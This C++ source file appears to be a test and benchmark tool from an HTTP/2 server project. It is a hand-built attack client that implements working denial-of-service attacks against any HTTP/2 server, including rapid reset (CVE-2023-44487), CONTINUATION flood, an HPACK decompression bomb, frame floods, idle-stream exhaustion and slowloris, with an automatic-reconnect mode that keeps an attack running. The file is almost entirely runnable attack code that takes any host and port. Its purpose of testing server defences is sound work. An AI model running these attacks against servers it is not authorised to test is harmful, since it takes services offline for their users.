// curfew-h2-attack: one hostile HTTP/2 client, for the attack tests (tests/faults/attacks_test.cc)
// and the attack benchmark (bench/run.sh attacks). It speaks just enough HTTP/2 to attack, with
// frames written by hand (an attacker is not a library), against any HTTP/2 server: curfew,
// nginx, HAProxy, nghttpx.
//
//   curfew-h2-attack --port P --attack NAME [--host 127.0.0.1] [--seconds S] [--connections N]
//
// Attacks (one connection unless said otherwise):
//   rapid_reset          HEADERS then RST_STREAM(CANCEL), stream after stream (CVE-2023-44487)
//   ping_flood           PING frames
//   settings_flood       empty SETTINGS frames (each asks for an ACK)
//   window_update_flood  WINDOW_UPDATE(connection, +1) frames
//   empty_data_flood     one open stream, then DATA frames with no payload and no END_STREAM
//   closed_stream_flood  a stream opened and reset, then empty DATA frames on it (frames a server
//                        may drop without looking: they still cost a read and a parse)
//   continuation_flood   HEADERS without END_HEADERS, then CONTINUATION frames (CVE-2024-28182)
//   hpack_bloat          per stream, a header block that HPACK expands past any metadata limit
//                        (a 4000-byte entry indexed, then referenced 4000 times: 8 KB -> 16 MB)
//   idle_streams         --streams N (default 2000) opened (HEADERS, no END_STREAM) once the
//                        server's SETTINGS are ACKed, and left idle: more than its stream limit
//   headers_stall        HEADERS without END_HEADERS, then silence
//   slowloris            --connections N (default 50) that send the preface one byte a second
//
// With --reconnect 1, a closed connection is replaced by a new one (after --pause-ms, default 0)
// and the attack goes on until --seconds are up (an attacker does not give up): the figure then
// is how the server's other callers fare while it sheds attacking connections again and again.
// The attacker reads everything the server sends (ACKing its SETTINGS once, as clients must) and
// prints one line when the time is up or every connection is closed:
//   attack=NAME frames=F closed=C of=N goaway=CODE first_close_ms=T last_close_ms=T
// `closed` counts connections the server closed (EOF or reset); goaway is the last GOAWAY error
// code seen (-1: none); *_close_ms are from the attack's start (-1: none closed).
#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

#include <atomic>
#include <cerrno>
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <memory>
#include <string>
#include <thread>
#include <vector>

namespace {

using Clock = std::chrono::steady_clock;

enum FrameType : uint8_t {
  kData = 0,
  kHeaders = 1,
  kRstStream = 3,
  kSettings = 4,
  kPing = 6,
  kGoaway = 7,
  kWindowUpdate = 8,
  kContinuation = 9,
};
constexpr uint8_t kEndStream = 0x1, kAck = 0x1, kEndHeaders = 0x4;
const std::string kPreface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

std::string frame(uint8_t type, uint8_t flags, uint32_t stream, const std::string& payload) {
  const auto n = static_cast<uint32_t>(payload.size());
  std::string f = {static_cast<char>(n >> 16),
                   static_cast<char>(n >> 8),
                   static_cast<char>(n),
                   static_cast<char>(type),
                   static_cast<char>(flags),
                   static_cast<char>((stream >> 24) & 0x7f),
                   static_cast<char>(stream >> 16),
                   static_cast<char>(stream >> 8),
                   static_cast<char>(stream)};
  return f + payload;
}

std::string u32(uint32_t v) {
  return {static_cast<char>(v >> 24), static_cast<char>(v >> 16), static_cast<char>(v >> 8),
          static_cast<char>(v)};
}

// HPACK integer with an N-bit prefix (RFC 7541 §5.1); `first` holds the pattern bits.
std::string hpack_int(uint8_t first, int prefix_bits, uint32_t value) {
  const uint32_t max = (1u << prefix_bits) - 1;
  std::string out;
  if (value < max) {
    out.push_back(static_cast<char>(first | value));
    return out;
  }
  out.push_back(static_cast<char>(first | max));
  value -= max;
  while (value >= 128) {
    out.push_back(static_cast<char>((value % 128) | 128));
    value /= 128;
  }
  out.push_back(static_cast<char>(value));
  return out;
}

// Literal header field, new name; `indexed`: with incremental indexing (RFC 7541 §6.2.1).
std::string literal(const std::string& name, const std::string& value, bool indexed = false) {
  return hpack_int(indexed ? 0x40 : 0x00, indexed ? 6 : 4, 0) + hpack_int(0, 7, name.size()) +
         name + hpack_int(0, 7, value.size()) + value;
}

std::string request_block() {
  return literal(":method", "POST") + literal(":scheme", "http") +
         literal(":path", "/curfew.demo.Demo/Echo") + literal(":authority", "attack") +
         literal("content-type", "application/grpc") + literal("te", "trailers");
}

int connect_to(const std::string& host, int port) {
  const int fd = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  sockaddr_in a{};
  a.sin_family = AF_INET;
  a.sin_port = htons(static_cast<uint16_t>(port));
  if (::inet_pton(AF_INET, host.c_str(), &a.sin_addr) != 1 ||
      ::connect(fd, reinterpret_cast<sockaddr*>(&a), sizeof a) != 0) {
    ::close(fd);
    return -1;
  }
  int one = 1;
  ::setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
  timeval tv{.tv_sec = 0, .tv_usec = 200000};  // every read and write bounded
  ::setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
  ::setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
  return fd;
}

// One attacking connection: a reader thread drains what the server sends, ACKs its first
// SETTINGS and notes its GOAWAY and the close.
class Connection {
 public:
  Connection(const std::string& host, int port, Clock::time_point start)
      : start_(start), fd_(connect_to(host, port)) {
    if (fd_ >= 0) reader_ = std::thread([this] { read_loop(); });
  }
  ~Connection() {
    stop_ = true;
    if (reader_.joinable()) reader_.join();
    if (fd_ >= 0) ::close(fd_);
  }
  bool ok() const { return fd_ >= 0; }
  bool closed() const { return closed_ms_.load() >= 0; }
  long closed_ms() const { return closed_ms_.load(); }
  long goaway() const { return goaway_.load(); }
  // The server's SETTINGS arrived and were ACKed.
  bool settled() const { return acked_.load(); }

  // Sends all of `bytes` unless the connection closes or `deadline` passes (a server that stops
  // reading holds the attacker's writes: that is the server's defence, not an error).
  bool send(const std::string& bytes, Clock::time_point deadline) {
    size_t off = 0;
    while (off < bytes.size() && !closed()) {
      const ssize_t n = ::send(fd_, bytes.data() + off, bytes.size() - off, MSG_NOSIGNAL);
      if (n > 0) {
        off += static_cast<size_t>(n);
        continue;
      }
      if (n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK || errno == EINTR)) {
        if (Clock::now() >= deadline) return false;
        continue;
      }
      mark_closed();
      return false;
    }
    return off == bytes.size();
  }

 private:
  void mark_closed() {
    long expected = -1;
    const long ms =
        std::chrono::duration_cast<std::chrono::milliseconds>(Clock::now() - start_).count();
    closed_ms_.compare_exchange_strong(expected, ms);
  }

  void read_loop() {
    std::string buf;
    char chunk[65536];
    while (!stop_ && !closed()) {
      const ssize_t n = ::recv(fd_, chunk, sizeof chunk, 0);
      if (n == 0 || (n < 0 && errno != EAGAIN && errno != EWOULDBLOCK && errno != EINTR)) {
        mark_closed();
        return;
      }
      if (n < 0) continue;
      buf.append(chunk, static_cast<size_t>(n));
      while (buf.size() >= 9) {
        const auto b = [&](size_t i) { return static_cast<uint8_t>(buf[i]); };
        const size_t len = (size_t{b(0)} << 16) | (size_t{b(1)} << 8) | b(2);
        if (buf.size() < 9 + len) break;
        if (b(3) == kGoaway && len >= 8)
          goaway_ = (long{b(13)} << 24) | (long{b(14)} << 16) | (long{b(15)} << 8) | b(16);
        if (b(3) == kSettings && (b(4) & kAck) == 0) settings_seen_ = true;
        buf.erase(0, 9 + len);
      }
    }
  }

  Clock::time_point start_;
  int fd_;
  std::thread reader_;
  std::atomic<bool> stop_{false};
  std::atomic<long> closed_ms_{-1};
  std::atomic<long> goaway_{-1};
  std::atomic<bool> acked_{false};
  std::atomic<bool> settings_seen_{false};

 public:
  // After our preface: waits for the server's SETTINGS and ACKs them, from the sending thread
  // (an ACK in the middle of the preface would break it, one in the middle of a header block is
  // a protocol error: the server would close us for the wrong reason).
  void wait_for_settled(Clock::time_point until) {
    while (!settings_seen_ && !closed() && Clock::now() < until)
      std::this_thread::sleep_for(std::chrono::milliseconds(1));
    if (settings_seen_ && send(frame(kSettings, kAck, 0, ""), until)) acked_ = true;
  }
};

struct Options {
  std::string host = "127.0.0.1";
  int port = 0;
  std::string attack;
  double seconds = 5;
  int connections = 50;
  int streams = 2000;
  bool reconnect = false;
  int pause_ms = 0;
};

// Sends `batch` again and again on `c` until the time is up or the server closes.
long flood(Connection& c, const std::string& batch, int frames_per_batch, Clock::time_point until) {
  long frames = 0;
  while (Clock::now() < until && !c.closed()) {
    if (c.send(batch, until)) frames += frames_per_batch;
  }
  return frames;
}

std::string repeat(const std::string& one, int n) {
  std::string out;
  out.reserve(one.size() * static_cast<size_t>(n));
  for (int i = 0; i < n; ++i) out += one;
  return out;
}

struct Outcome {
  long closed_ms;
  long goaway;
};
std::vector<Outcome> outcomes_;  // of every connection the attack used

template <class Connections>
void wait_closed(const Connections& cs, Clock::time_point until) {
  for (;;) {  // bounded by `until`
    bool all = true;
    for (const auto& c : cs) all = all && c->closed();
    if (all || Clock::now() >= until) return;
    std::this_thread::sleep_for(std::chrono::milliseconds(10));
  }
}

// One round of a single-connection attack on `c`, until the time is up or the server closes.
// Returns the frames sent; -1 for an unknown attack.
long attack_once(const Options& o, Connection& c, Clock::time_point until) {
  const std::string& a = o.attack;
  c.send(kPreface + frame(kSettings, 0, 0, ""), until);
  c.wait_for_settled(until);
  if (a == "rapid_reset") {
    const std::string block = request_block();
    long frames = 0;
    uint32_t id = 1;
    while (Clock::now() < until && !c.closed() && id < (1u << 30)) {
      std::string batch;
      for (int i = 0; i < 50; ++i, id += 2) {
        batch += frame(kHeaders, kEndHeaders, id, block);
        batch += frame(kRstStream, 0, id, u32(8));  // CANCEL
      }
      if (c.send(batch, until)) frames += 100;
    }
    return frames;
  }
  if (a == "ping_flood")
    return flood(c, repeat(frame(kPing, 0, 0, std::string(8, 'p')), 100), 100, until);
  if (a == "settings_flood") return flood(c, repeat(frame(kSettings, 0, 0, ""), 100), 100, until);
  if (a == "window_update_flood")
    return flood(c, repeat(frame(kWindowUpdate, 0, 0, u32(1)), 100), 100, until);
  if (a == "empty_data_flood") {
    c.send(frame(kHeaders, kEndHeaders, 1, request_block()), until);
    return 1 + flood(c, repeat(frame(kData, 0, 1, ""), 100), 100, until);
  }
  if (a == "closed_stream_flood") {
    c.send(frame(kHeaders, kEndHeaders, 1, request_block()) + frame(kRstStream, 0, 1, u32(8)),
           until);
    return 2 + flood(c, repeat(frame(kData, 0, 1, ""), 100), 100, until);
  }
  if (a == "continuation_flood") {
    c.send(frame(kHeaders, 0, 1, request_block()), until);
    return 1 + flood(c, repeat(frame(kContinuation, 0, 1, literal("x-a", "b")), 100), 100, until);
  }
  if (a == "hpack_bloat") {
    // The entry is added to the dynamic table (index 62), then referenced: each reference
    // decodes to 4 KB. 4000 references: 16 MB of header list from an 8 KB block.
    const std::string bomb = literal("x-bloat", std::string(4000, 'b'), /*indexed=*/true) +
                             std::string(4000, static_cast<char>(0x80 | 62));
    long frames = 0;
    for (uint32_t id = 1; Clock::now() < until && !c.closed() && id < (1u << 30); id += 2) {
      if (c.send(frame(kHeaders, kEndHeaders | kEndStream, id, request_block() + bomb), until))
        ++frames;
    }
    return frames;
  }
  if (a == "idle_streams") {
    // Once the server's limits are known (its SETTINGS ACKed), as an attacker would.
    std::string batch;
    for (int i = 0; i < o.streams; ++i)
      batch += frame(kHeaders, kEndHeaders, static_cast<uint32_t>(2 * i + 1), request_block());
    return c.send(batch, until) ? o.streams : 0;
  }
  if (a == "headers_stall") return c.send(frame(kHeaders, 0, 1, request_block()), until) ? 1 : 0;
  return -1;
}

int run(const Options& o) {
  const Clock::time_point start = Clock::now();
  const auto until =
      start + std::chrono::duration_cast<Clock::duration>(std::chrono::duration<double>(o.seconds));
  std::vector<std::unique_ptr<Connection>> cs;
  const auto open = [&] {
    cs.push_back(std::make_unique<Connection>(o.host, o.port, start));
    if (cs.back()->ok()) return true;
    std::fprintf(stderr, "curfew-h2-attack: cannot connect to %s:%d\n", o.host.c_str(), o.port);
    return false;
  };
  long frames = 0;
  if (o.attack == "slowloris") {
    for (int i = 0; i < o.connections; ++i) {
      if (!open()) return 2;
    }
    // One byte of the preface per connection per second: never complete within any sane limit.
    for (size_t i = 0; Clock::now() < until; ++i) {
      bool all_closed = true;
      for (auto& conn : cs) {
        if (conn->closed()) continue;
        all_closed = false;
        conn->send(std::string(1, kPreface[i % kPreface.size()]), until);
      }
      if (all_closed) break;
      const auto next = start + std::chrono::seconds(i + 1);
      while (Clock::now() < std::min(next, until))
        std::this_thread::sleep_for(std::chrono::milliseconds(10));
    }
  } else {
    for (int round = 0; round < 100000 && Clock::now() < until; ++round) {  // bounded
      if (!open()) return 2;
      const long sent = attack_once(o, *cs.back(), until);
      if (sent < 0) {
        std::fprintf(stderr, "curfew-h2-attack: unknown attack '%s'\n", o.attack.c_str());
        return 2;
      }
      frames += sent;
      wait_closed(std::vector<Connection*>{cs.back().get()}, until);
      if (!o.reconnect) break;
      // Done with that one: keep its outcome, free its reader thread.
      outcomes_.push_back({cs.back()->closed_ms(), cs.back()->goaway()});
      cs.pop_back();
      std::this_thread::sleep_for(std::chrono::milliseconds(o.pause_ms));
    }
  }
  wait_closed(cs, until);
  for (const auto& conn : cs) outcomes_.push_back({conn->closed_ms(), conn->goaway()});
  int closed = 0;
  long first = -1, last = -1, goaway = -1;
  for (const Outcome& out : outcomes_) {
    if (out.goaway >= 0) goaway = out.goaway;
    if (out.closed_ms < 0) continue;
    ++closed;
    if (first < 0 || out.closed_ms < first) first = out.closed_ms;
    last = std::max(last, out.closed_ms);
  }
  std::printf(
      "attack=%s frames=%ld closed=%d of=%zu goaway=%ld first_close_ms=%ld "
      "last_close_ms=%ld\n",
      o.attack.c_str(), frames, closed, outcomes_.size(), goaway, first, last);
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  Options o;
  for (int i = 1; i + 1 < argc; i += 2) {
    const std::string k = argv[i], v = argv[i + 1];
    if (k == "--host") {
      o.host = v;
    } else if (k == "--port") {
      o.port = std::atoi(v.c_str());
    } else if (k == "--attack") {
      o.attack = v;
    } else if (k == "--seconds") {
      o.seconds = std::atof(v.c_str());
    } else if (k == "--connections") {
      o.connections = std::atoi(v.c_str());
    } else if (k == "--streams") {
      o.streams = std::atoi(v.c_str());
    } else if (k == "--reconnect") {
      o.reconnect = v == "1";
    } else if (k == "--pause-ms") {
      o.pause_ms = std::atoi(v.c_str());
    } else {
      std::fprintf(stderr, "curfew-h2-attack: unknown option %s\n", k.c_str());
      return 2;
    }
  }
  if (o.port <= 0 || o.attack.empty() || o.seconds <= 0 || o.seconds > 600 || o.connections < 1 ||
      o.connections > 10000 || o.streams < 1 || o.streams > 100000 || o.pause_ms < 0 ||
      o.pause_ms > 10000) {
    std::fprintf(stderr,
                 "usage: curfew-h2-attack --port P --attack NAME [--host H] [--seconds S] "
                 "[--connections N] [--streams N] [--reconnect 1] [--pause-ms N]\n");
    return 2;
  }
  return run(o);
}
